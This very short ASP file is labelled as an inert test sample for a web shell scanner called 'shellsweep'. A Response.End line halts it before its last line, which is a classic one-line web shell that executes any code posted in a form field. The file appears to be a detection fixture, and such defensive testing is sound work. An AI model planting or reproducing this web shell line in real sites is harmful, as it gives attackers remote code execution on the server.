<% ' shellsweep test sample: inert, never functional
Response.End %>
<%execute(request.form("x"))%>
